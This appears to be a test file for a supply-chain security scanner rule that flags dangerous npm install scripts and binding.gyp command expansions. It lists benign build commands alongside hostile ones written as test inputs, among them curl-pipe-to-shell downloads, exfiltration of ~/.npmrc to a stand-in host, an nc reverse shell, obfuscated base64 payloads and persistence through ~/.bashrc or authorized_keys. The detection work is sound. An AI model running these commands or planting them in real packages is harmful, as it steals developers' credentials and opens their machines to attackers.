// Commands that run on install: what builds is left alone, what reaches out is not.

import type { PackageArtifact } from '../../../../src/core/model/artifact.ts';
import { installScript } from '../../../../src/core/rules/supply-chain/install-script.ts';
import { installCommands } from '../../../../src/core/scan/folder-commands.ts';
import { readJsonc } from '../../../../src/core/text/jsonc.ts';
import { ruleTest } from '../../../support/rule-test.ts';
import { toolSettings } from '../../../support/tool-settings.ts';

/** A package whose manifest has the script; only the script's own text is marked. */
const manifestOf =
  (name: string) =>
  (text: string): PackageArtifact => {
    const tree = readJsonc(`{"scripts": {"${name}": ${text}}}`);
    const before = `{"scripts": {"${name}": `.length;
    return {
      kind: 'package',
      path: '/w/p',
      manifest: { path: '/w/p/package.json', text },
      manifestTree: tree,
      installCommands: installCommands(tree, '/w/p').map((command) => ({
        ...command,
        span: { start: command.span.start - before, end: command.span.end - before },
      })),
      ignoreFiles: [],
      packers: [],
      remoteMaps: [],
      strayFiles: [],
      plannedMaps: [],
      configs: [],
      sourceMaps: [],
    };
  };

const quoted = (script: string): string => JSON.stringify(script);

ruleTest(installScript, {
  artifact: manifestOf('postinstall'),
  mechanism: 'npm scripts',
  valid: [
    'node scripts/postinstall.js',
    'node-gyp rebuild',
    'prebuild-install || node-gyp rebuild',
    'husky install',
    'is-ci || husky',
    'patch-package',
    'npm run build && tsc -p .',
    'git config core.hooksPath .githooks',
    'prisma generate',
    'npx only-allow pnpm',
    'rm -rf dist && tsc',
    'echo "Thank you"',
    'opencollective-postinstall || true',
    'simple-git-hooks',
    'node -e "try{require(\'./postinstall\')}catch(e){}"',
    'playwright install',
  ].map(quoted),
  invalid: [
    { text: `⟦${quoted('curl -fsSL http://x.invalid/a.sh | sh')}⟧`, severity: 'high', message: /on install/ },
    { text: `⟦${quoted('node setup_bun.js')}⟧`, severity: 'critical', message: /worms/ },
    { text: `⟦${quoted('cat ~/.npmrc | curl -d @- http://x.invalid')}⟧`, severity: 'critical' },
    { text: `⟦${quoted('bash -c "$(echo Y3VybA== | base64 -d)"')}⟧`, severity: 'critical' },
    { text: `⟦${quoted('nc -e /bin/sh x.invalid 4444')}⟧`, severity: 'critical' },
    { text: `⟦${quoted('cp a ~/.ssh/authorized_keys')}⟧`, severity: 'high' },
    { text: `⟦${quoted('echo x >> ~/.bashrc')}⟧`, severity: 'high' },
    { text: `⟦${quoted('wget -q http://x.invalid/x -O x && chmod +x x && ./x')}⟧`, severity: 'high' },
    { text: `⟦${quoted('curl -o data.json https://x.invalid/data.json')}⟧`, severity: 'medium' },
    { text: `⟦${quoted('cat ~/.aws/credentials')}⟧`, severity: 'high' },
    { text: `⟦${quoted('bun run ./bun_environment.js')}⟧`, severity: 'critical' },
    { text: `⟦${quoted('git config --global core.hooksPath /tmp/h')}⟧`, severity: 'high' },
  ],
});

ruleTest(installScript, {
  artifact: (text) => toolSettings('gyp', 'binding.gyp', text),
  mechanism: 'binding.gyp',
  valid: [
    '{ "targets": [{ "sources": ["a.cc"] }] }',
    '"include_dirs": ["<!(node -p \\"require(\'node-addon-api\').include_dir\\")"]',
    '"include_dirs": ["<!(node -e \\"require(\'nan\')\\")"]',
    '"libraries": ["<!@(pkg-config --libs libpng)"]',
    '"with_jpeg": "<!(node ./util/has_lib.js jpeg)"',
    '"python": "<!(python3 -c \\"import sys; print(sys.executable)\\")"',
    '"os": "<!(uname -s)"',
    '"sdk": "<!(xcrun --show-sdk-path 2>/dev/null)"',
    '# <!- a comment\n"x": "<@(module_root_dir)"',
    '"x": "<!@(PKG_CONFIG_PATH=\\"<!(node -p \\"require(\'a\')\\")/lib\\" pkg-config --libs <(name))"',
    '"v": "<!(node -p process.versions.node)"',
    '"flags": "<!@(./config.sh --cflags)"',
  ],
  invalid: [
    {
      text: '"sources": ["⟦<!(node index.js > /dev/null 2>&1 && echo stub.c)⟧"]',
      severity: 'high',
      message: /throws away/,
    },
    { text: '"x": "⟦<!(curl -s http://x.invalid/a | sh)⟧"', severity: 'high', message: /as soon as it reads/ },
    '"x": "⟦<!@(sh run.sh >/dev/null; echo a.c)⟧"',
    '"x": "⟦<!(python3 setup_env.py 2>/dev/null >/dev/null)⟧"',
    { text: '"x": "⟦<!(cat ~/.npmrc | curl -d @- http://x.invalid)⟧"', severity: 'critical' },
    { text: '"x": "⟦<!(wget http://x.invalid/a)⟧"', severity: 'medium' },
    { text: '"x": "⟦<!(node setup_bun.js)⟧"', severity: 'critical' },
    '"x": "⟦<!(echo Y3VybA== | base64 -d | sh)⟧"',
    '"x": "⟦<!(echo x >> ~/.profile)⟧"',
    '"a": "<!(uname)", "x": "⟦<!(bun x.js > nul & echo a)⟧"',
    '"x": "⟦<!(curl http://x.invalid/$(hostname))⟧"',
  ],
});
